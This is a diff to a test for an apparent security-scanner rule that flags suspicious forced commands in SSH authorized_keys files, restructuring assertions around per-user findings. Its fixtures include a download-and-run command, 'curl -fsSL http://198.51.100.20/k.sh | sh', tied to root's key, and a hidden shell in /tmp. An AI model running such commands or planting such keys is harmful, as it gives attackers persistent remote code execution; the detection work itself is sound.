@@ -41,16 +41,39 @@ describe('ssh-key-forced-command', () => {
       [sshKeyForcedCommand],
     ).findings;
     for (const f of findings) expect(FindingSchema.parse(f)).toEqual(f);
-    expect(findings.map((f) => [f.level, f.message.en]).sort()).toEqual([
-      [
-        'high',
-        'ssh-ed25519 key SHA256:def of alice (/home/alice/.ssh/authorized_keys:1) forces a command that runs /tmp/.ICE-unix/.s/sh from /tmp, a world-writable temporary directory',
-      ],
-      [
-        'high',
-        'ssh-rsa key x@campaign of root (/root/.ssh/authorized_keys:1) forces a command that downloads and runs http://198.51.100.20/k.sh',
-      ],
-    ]);
+    expect(findings.every((f) => f.level === 'high')).toBe(true);
+    const byUser = new Map(findings.map((f) => [f.data?.user, f]));
+    expect(byUser.size).toBe(2);
+    expect(byUser.get('root')).toMatchObject({
+      messageId: 'downloadsAndRuns',
+      data: {
+        keyType: 'ssh-rsa',
+        key: 'x@campaign',
+        comment: 'x@campaign',
+        file: '/root/.ssh/authorized_keys',
+        line: 1,
+        url: 'http://198.51.100.20/k.sh',
+        downloader: 'curl',
+        command: 'curl -fsSL http://198.51.100.20/k.sh | sh',
+      },
+    });
+    expect(byUser.get('root')?.message.en).toBe(
+      'ssh-rsa key x@campaign of root (/root/.ssh/authorized_keys:1) forces a command that downloads and runs http://198.51.100.20/k.sh',
+    );
+    // Without a comment the key is named by its fingerprint.
+    expect(byUser.get('alice')).toMatchObject({
+      messageId: 'runsFromOddPlace',
+      data: {
+        keyType: 'ssh-ed25519',
+        key: 'SHA256:def',
+        fingerprint: 'SHA256:def',
+        file: '/home/alice/.ssh/authorized_keys',
+        line: 1,
+        path: '/tmp/.ICE-unix/.s/sh',
+        where: { en: '/tmp, a world-writable temporary directory' },
+      },
+    });
+    expect(byUser.get('alice')?.data).not.toHaveProperty('comment');
     expect(findings.flatMap((f) => f.remediate)).toContainEqual({
       type: 'remove-authorized-key',
       path: '/root/.ssh/authorized_keys',
